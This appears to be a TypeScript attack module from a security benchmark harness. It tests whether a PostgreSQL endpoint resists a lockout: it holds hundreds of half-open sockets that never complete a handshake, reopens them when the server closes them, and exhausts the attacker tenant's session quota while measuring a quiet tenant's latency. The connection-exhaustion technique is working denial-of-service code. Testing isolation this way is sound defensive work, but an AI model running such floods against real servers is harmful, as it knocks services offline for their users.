// Issue 27 #6: the attacker tries to lock everyone else out of the PostgreSQL endpoint. It keeps
// HALF_OPEN sockets open from its own address (127.0.0.2) that never send a start-up message, opening a
// new one whenever the endpoint closes or refuses one, and opens as many idle sessions of its own
// organization as the endpoint lets it. The quiet organization's pg connect time and SELECT 1 are probed
// throughout (pg-probe.ts), beside the harness's gRPC calls.
import { connect, type Socket } from 'node:net';
import type pg from 'pg';
import type { Attack } from './harness.js';
import { pgClient, probePg, withDatabaseUser } from './pg-probe.js';

const HALF_OPEN = Number(process.env.BENCH_PG_HALF_OPEN ?? 500);
const MAX_SESSIONS = Number(process.env.BENCH_PG_SESSIONS ?? 250);

export const pgLockout: Attack = {
  name: 'pg-lockout',
  finding: 'issue 27 #6',
  describe: `${HALF_OPEN} half-open sockets from 127.0.0.2 kept open, and up to ${MAX_SESSIONS} idle sessions of the attacker's organization`,
  async start({ attacker, quiet, pgPort }) {
    await withDatabaseUser(attacker);
    await withDatabaseUser(quiet);
    let stopped = false;
    let opened = 0;
    let refused = 0;
    let closedByServer = 0;
    const sockets = new Set<Socket>();
    const openOne = () => {
      if (stopped) return;
      const s = connect({ port: pgPort, host: '127.0.0.1', localAddress: '127.0.0.2' });
      opened++;
      sockets.add(s);
      let gotError = false;
      s.on('data', (d: Buffer) => (gotError ||= d[0] === 0x45)); // 'E': refused with an ErrorResponse
      s.on('error', () => undefined);
      s.on('close', () => {
        sockets.delete(s);
        if (stopped) return;
        if (gotError) refused++;
        else closedByServer++;
        // Keep the pressure up: a refused socket is tried again a second later (a connection flood is another attack).
        setTimeout(openOne, gotError ? 1000 : 0);
      });
    };
    for (let i = 0; i < HALF_OPEN; i++) openOne();
    const sessions: pg.Client[] = [];
    let sessionRefusal = '';
    for (let i = 0; i < MAX_SESSIONS; i++) {
      const c = pgClient(attacker, pgPort);
      try {
        await c.connect();
        sessions.push(c);
      } catch (err) {
        sessionRefusal = `${(err as { code?: string }).code}: ${(err as Error).message}`;
        await c.end().catch(() => undefined);
        break;
      }
    }
    const probe = probePg(quiet, pgPort);
    return async () => {
      const quietLine = await probe.stop();
      stopped = true;
      for (const s of sockets) s.destroy();
      for (const c of sessions) await c.end().catch(() => undefined);
      return (
        `${sessions.length} attacker sessions held (next refused: ${sessionRefusal || 'none'}); half-open sockets opened ${opened}, ` +
        `refused ${refused}, closed by the handshake timer ${closedByServer}; ${quietLine}`
      );
    };
  },
};
